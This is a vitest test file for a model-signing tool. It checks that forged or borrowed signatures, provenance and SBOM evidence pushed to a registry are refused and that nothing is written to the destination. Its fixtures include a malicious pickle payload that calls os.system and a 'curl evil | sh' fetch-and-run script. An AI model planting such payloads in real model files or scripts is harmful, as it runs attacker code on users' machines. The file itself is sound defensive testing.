// Issue 19: an attacker who can push to the registry (no private key, no OIDC identity of the
// victim) must not get a model past the deploy gate with evidence that is about something else.
// Each attack runs against the real docker-registry, through the library, the CLI and the Action's
// verify mode: refused with a code that names the problem, DEST absent.
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startRegistry, type RunningRegistry } from './registry/harness.js';
import { cyclonedx, provenance } from './policy/signed-evidence.js';
import { errorLines, runAction } from './action-process.js';
import { attachBundle, bundleReferrers } from '../packages/core/src/attest/index.js';
import {
  attest,
  hashModel,
  keySigner,
  keyVerifier,
  ModelsealError,
  pushModel,
} from '../packages/core/src/index.js';
import { newKeyPair, publicKeyPem } from '../packages/core/src/keys.js';
import { BIN, REPO as repo, SAMPLE } from './signed-model.js';
import { keysPolicyYaml } from './policy/key-policy.js';
import {
  buildStatement,
  IN_TOTO_PAYLOAD_TYPE,
  OMS_PREDICATE_TYPE,
  serializeBundle,
} from '../packages/core/src/oms.js';
import { openTarget } from '../packages/core/src/oci/open-target.js';
import { copy } from '../packages/core/src/oci/copy.js';
import { LayoutTarget } from '../packages/core/src/oci/layout/layout-target.js';
import {
  parsePolicy,
  pullWithPolicy,
  evaluateReferencePolicy,
  policyVerifier,
} from '../packages/core/src/policy/index.js';
import { tarOf, writeArtifact } from './oci/model-fixture.js';
import { runCliInProcess } from './cli-in-process.js';
import { sign } from '../packages/core/src/sign/sign.js';
import { verify } from '../packages/core/src/verify/verify.js';

const tmp = mkdtempSync(path.join(tmpdir(), 'ms-binding-'));
const trainer = newKeyPair();
const sbomSigner = newKeyPair(); // a lesser identity the attacker holds (named by the policy for SBOMs only)

let registry: RunningRegistry;

const POLICY = () =>
  keysPolicyYaml(
    'prod',
    { trainer: trainer.publicKey, 'sbom-bot': sbomSigner.publicKey },
    `    signatures:
      oms: {signedBy: [trainer]}
    provenance:
      signedBy: [trainer]
      builders: [{idRegExp: 'https://github\\.com/acme/ml-platform/.*', maxLevel: 3}]
    sbom:
      signedBy: [trainer, sbom-bot]
      licenses: {deny: [AGPL-3.0-only]}
`,
  );
let policyFile: string;
const policy = () => parsePolicy(POLICY(), 'prod.yaml');
const file = (name: string, text: string | Buffer) => {
  const f = path.join(tmp, name);
  writeFileSync(f, text);
  return f;
};
/** The CLI, run in this process (./cli-in-process.ts); `status` as spawnSync names the exit code. */
const cli = async (...args: string[]) => {
  const r = await runCliInProcess(args);
  return { status: r.code, stdout: r.stdout, stderr: r.stderr };
};

/** A directory: the sample model plus files of its own. */
function modelDir(name: string, extra: Record<string, string | Buffer>): string {
  const dir = path.join(tmp, name);
  cpSync(SAMPLE, dir, { recursive: true });
  for (const [f, body] of Object.entries(extra)) writeFileSync(path.join(dir, f), body);
  return dir;
}

const attestRef = (ref: string, predicateType: string, predicate: unknown, who = trainer) =>
  attest(ref, { signer: keySigner({ privateKey: who.privateKey }), predicateType, predicate });

/** Pushes `dir` to `name:v1`, signed by the trainer (OMS + cosign referrers); returns the reference. */
async function published(name: string, dir: string, o: { builder?: string; sign?: boolean } = {}) {
  const ref = `${registry.host}/models/${name}:v1`;
  await pushModel(dir, ref);
  if (o.sign !== false) await sign(ref, { signer: keySigner({ privateKey: trainer.privateKey }) });
  if (o.builder !== undefined) {
    await attestRef(ref, 'https://slsa.dev/provenance/v1', provenance({ builderId: o.builder }));
    await attestRef(ref, 'https://cyclonedx.org/bom', cyclonedx());
  }
  return ref;
}

/** The attacker's move: every bundle referrer of `from` attached to `to` as well (push access only). */
async function borrowReferrers(from: string, to: string, only?: (predicateType?: string) => boolean) {
  const src = openTarget(from);
  const dst = openTarget(to);
  const subject = await dst.target.resolve(dst.selector);
  for (const b of (await bundleReferrers(src.target, await src.target.resolve(src.selector))).bundles) {
    if (only && !only(b.predicateType)) continue;
    await attachBundle(dst.target, subject, b.bytes, b.predicateType ?? OMS_PREDICATE_TYPE);
  }
}

const GOOD_BUILDER = 'https://github.com/acme/ml-platform/.github/workflows/train.yml@refs/tags/v1';

beforeAll(async () => {
  if (!existsSync(BIN)) spawnSync('pnpm', ['-r', 'run', 'build'], { cwd: repo });
  registry = await startRegistry();
  policyFile = file('prod.yaml', POLICY());
});
afterAll(async () => {
  await registry?.close();
  rmSync(tmp, { recursive: true, force: true });
});

describe('borrowed evidence: another model’s OMS signature and provenance appended to A', () => {
  let refA: string;
  beforeAll(async () => {
    // C is a good model: the trainer signed it, its provenance names an allowed builder.
    const refC = await published('model-c', modelDir('c', { 'id.txt': 'model c\n' }), {
      builder: GOOD_BUILDER,
    });
    // A is signed by the trainer but carries no acceptable provenance (the state an attacker reaches by
    // rewriting the fallback index); the attacker appends C's OMS signature, provenance and SBOM.
    refA = await published('model-a', modelDir('a', { 'id.txt': 'model a\n' }));
    await borrowReferrers(refC, refA, (t) => t !== 'https://sigstore.dev/cosign/sign/v1');
  });

  it('library: pullWithPolicy refuses with SUBJECT_MISMATCH, DEST absent', async () => {
    const dest = path.join(tmp, 'dest-a-lib');
    const err = await pullWithPolicy(refA, dest, { policy: policy() }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ModelsealError);
    expect((err as ModelsealError).code).toBe('SUBJECT_MISMATCH');
    expect((err as ModelsealError).message).toMatch(
      /^policy prod: provenance\.signer: .*: its subject \(sha256:[0-9a-f]{64}, sha256:[0-9a-f]{64}\) is not .*model-a:v1/,
    );
    expect(existsSync(dest)).toBe(false);
    // the same evidence, without pulling: the borrowed items are listed as unbound, not used
    const r = await evaluateReferencePolicy(refA, policy(), { verifier: policyVerifier(policy().policy) });
    expect(r.result.allowed).toBe(false);
    expect(r.evidence.attestations).toEqual([]);
    expect(r.evidence.signatures.map((s) => s.kind)).toEqual(['oms', 'cosign']); // A's own, bound
    expect(r.evidence.subjectDigests).toHaveLength(2); // A's manifest digest and A's own OMS root
    expect(r.evidence.unbound?.map((u) => [u.kind, u.code]).sort()).toEqual([
      ['oms', 'TAMPERED_FILE'],
      ['provenance', 'SUBJECT_MISMATCH'],
      ['sbom', 'SUBJECT_MISMATCH'],
    ]);
  });

  it('CLI: pull --policy exits 1 with SUBJECT_MISMATCH, DEST absent; verify REF --policy --json lists the unbound evidence', async () => {
    const dest = path.join(tmp, 'dest-a-cli');
    const r = await cli('pull', refA, dest, '--policy', policyFile);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^modelseal: error\[SUBJECT_MISMATCH\]: policy prod: provenance\.signer: /);
    expect(existsSync(dest)).toBe(false);
    const v = await cli('verify', refA, '--policy', policyFile, '--json');
    expect(v.status).toBe(1);
    const out = JSON.parse(v.stdout) as {
      allowed: boolean;
      checks: { name: string; passed: boolean; code?: string }[];
      unbound: { kind: string; code: string }[];
    };
    expect(out.allowed).toBe(false);
    expect(out.unbound.map((u) => [u.kind, u.code]).sort()).toEqual([
      ['oms', 'TAMPERED_FILE'],
      ['provenance', 'SUBJECT_MISMATCH'],
      ['sbom', 'SUBJECT_MISMATCH'],
    ]);
    expect(out.checks.map((c) => [c.name, c.passed, c.code ?? ''])).toEqual([
      ['signatures.oms', true, ''],
      ['provenance.signer', false, 'SUBJECT_MISMATCH'],
      ['sbom.signer', false, 'SUBJECT_MISMATCH'],
    ]);
  });

  it('Action verify mode with a policy and dest: the job fails, no output says verified, DEST absent', async () => {
    const dest = path.join(tmp, 'dest-a-action');
    const r = await runAction({ mode: 'verify', 'registry-ref': refA, policy: policyFile, dest });
    expect(r.code).toBe(1);
    expect(errorLines(r)[0]).toMatch(
      /^::error title=modelseal SUBJECT_MISMATCH.*::error\[SUBJECT_MISMATCH\]: policy prod: provenance\.signer: /,
    );
    expect(r.outputs.verified).toBe('false');
    expect(existsSync(dest)).toBe(false);
  });
});

describe('order decides: a lesser identity signs evil files, the trainer’s signature of another model is listed second', () => {
  let refE: string;
  beforeAll(async () => {
    const refGood = await published('model-good', modelDir('good', { 'id.txt': 'good\n' }), {
      builder: GOOD_BUILDER,
    });
    const evil = modelDir('evil', {
      'id.txt': 'evil\n',
      'model.pkl': Buffer.from('cos\nsystem\n(S"id"\ntR.'),
    });
    refE = await published('model-evil', evil, { sign: false });
    // first: the attacker's own OMS signature of the evil files, made with the SBOM identity
    await sign(refE, { signer: keySigner({ privateKey: sbomSigner.privateKey }) });
    // then: the trainer's OMS signature, provenance and SBOM of the good model
    await borrowReferrers(refGood, refE, (t) => t !== 'https://sigstore.dev/cosign/sign/v1');
  });

  it('library and CLI: IDENTITY_MISMATCH on signatures.oms, the evil pickle never lands in DEST', async () => {
    const dest = path.join(tmp, 'dest-e-lib');
    const err = await pullWithPolicy(refE, dest, { policy: policy() }).catch((e: unknown) => e);
    expect((err as ModelsealError).code).toBe('IDENTITY_MISMATCH');
    expect((err as ModelsealError).message).toMatch(
      /^policy prod: signatures\.oms: signed by key sha256:[0-9a-f]{16}…, not by trainer \(2 more failed check\(s\)\)$/,
    );
    expect(existsSync(dest)).toBe(false);
    const cliDest = path.join(tmp, 'dest-e-cli');
    const r = await cli('pull', refE, cliDest, '--policy', policyFile);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^modelseal: error\[IDENTITY_MISMATCH\]: policy prod: signatures\.oms: /);
    expect(existsSync(path.join(cliDest, 'model.pkl'))).toBe(false);
    expect(existsSync(cliDest)).toBe(false);
  });

  it('Action verify mode: refused, DEST absent', async () => {
    const dest = path.join(tmp, 'dest-e-action');
    const r = await runAction({ mode: 'verify', 'registry-ref': refE, policy: policyFile, dest });
    expect(r.code).toBe(1);
    expect(errorLines(r)[0]).toMatch(/::error\[IDENTITY_MISMATCH\]: policy prod: signatures\.oms: /);
    expect(existsSync(dest)).toBe(false);
  });
});

describe('archive layers: the signed files are compared entry by entry, never skipped', () => {
  let refB: string;
  let refT: string;
  const pubFile = () => file('trainer.pub', publicKeyPem(trainer.publicKey));
  beforeAll(async () => {
    const refA = await published('model-a2', modelDir('a2', { 'id.txt': 'model a2\n' }));
    // B: one tar layer of attacker files, with A's (valid, trainer-signed) OMS signature appended
    const layout = path.join(tmp, 'layout');
    const tar = await tarOf([{ name: 'evil.sh', body: 'curl evil | sh' }]);
    await writeArtifact(
      layout,
      'b',
      [
        {
          bytes: tar,
          mediaType: 'application/vnd.cncf.model.weight.v1.tar',
          annotations: { 'org.cncf.model.filepath': 'weights' },
        },
      ],
      {
        artifactType: 'application/vnd.cncf.model.manifest.v1+json',
        configMediaType: 'application/vnd.cncf.model.config.v1+json',
      },
    );
    refB = `${registry.host}/models/model-b:v1`;
    const dst = openTarget(refB);
    await copy(new LayoutTarget(layout), 'b', dst.target, 'v1');
    await borrowReferrers(refA, refB, (t) => t === OMS_PREDICATE_TYPE);
    // T: a tar layer whose files the trainer really signed (the OMS statement of the extracted tree)
    const files = [
      { name: 'w/a.safetensors', body: 'AAAA' },
      { name: 'w/config.json', body: '{}' },
    ];
    await writeArtifact(
      layout,
      't',
      [
        {
          bytes: await tarOf(files),
          mediaType: 'application/vnd.cncf.model.weight.v1.tar',
          annotations: { 'org.cncf.model.filepath': 'w' },
        },
      ],
      {
        artifactType: 'application/vnd.cncf.model.manifest.v1+json',
        configMediaType: 'application/vnd.cncf.model.config.v1+json',
      },
    );
    refT = `${registry.host}/models/model-t:v1`;
    await copy(new LayoutTarget(layout), 't', openTarget(refT).target, 'v1');
    const tree = path.join(tmp, 'tree-t');
    mkdirSync(path.join(tree, 'w'), { recursive: true });
    for (const f of files) writeFileSync(path.join(tree, f.name), f.body);
    const manifest = await hashModel(tree);
    const bundle = await keySigner({ privateKey: trainer.privateKey }).signStatement(
      buildStatement(manifest),
      IN_TOTO_PAYLOAD_TYPE,
    );
    const t = openTarget(refT);
    await attachBundle(
      t.target,
      await t.target.resolve(t.selector),
      serializeBundle(bundle),
      OMS_PREDICATE_TYPE,
    );
  });

  it('library: verify(REF) is UNSUPPORTED_ARTIFACT (no silent skip)', async () => {
    const err = await verify(refB, { verifier: keyVerifier({ publicKey: trainer.publicKey }) }).catch(
      (e: unknown) => e,
    );
    expect((err as ModelsealError).code).toBe('UNSUPPORTED_ARTIFACT');
    expect((err as ModelsealError).message).toMatch(
      /the OMS signature is not about the files of .*model-b:v1: .* layer 0 is an archive/,
    );
  });

  it('CLI: verify REF --key fails; pull --verify and pull --policy refuse after comparing the entries, DEST absent', async () => {
    const v = await cli('verify', refB, '--key', pubFile());
    expect(v.status).toBe(2);
    expect(v.stderr).toMatch(/^modelseal: error\[UNSUPPORTED_ARTIFACT\]: /);
    const dest = path.join(tmp, 'dest-b');
    const p = await cli('pull', refB, dest, '--verify', '--key', pubFile());
    expect(p.status).toBe(1);
    expect(p.stderr).toMatch(/^modelseal: error\[TAMPERED_FILE|MISSING_FILE|EXTRA_FILE\]/);
    expect(existsSync(dest)).toBe(false);
    const q = await cli('pull', refB, dest, '--policy', policyFile);
    expect(q.status).toBe(1);
    expect(existsSync(dest)).toBe(false);
  });

  it('Action verify mode with a key and no dest: the job fails with UNSUPPORTED_ARTIFACT', async () => {
    const r = await runAction({ mode: 'verify', 'registry-ref': refB, 'public-key': pubFile() });
    expect(r.code).toBe(1);
    expect(errorLines(r)[0]).toMatch(/::error\[UNSUPPORTED_ARTIFACT\]: /);
    expect(r.outputs.verified).toBe('false');
  });

  it('a tar layer whose extracted files the trainer signed pulls with --verify (entry by entry)', async () => {
    const dest = path.join(tmp, 'dest-t');
    const p = await cli('pull', refT, dest, '--verify', '--key', pubFile(), '--json');
    expect(p.stderr).toBe('');
    expect(p.status).toBe(0);
    expect(readFileSync(path.join(dest, 'w/a.safetensors'), 'utf8')).toBe('AAAA');
  });
});
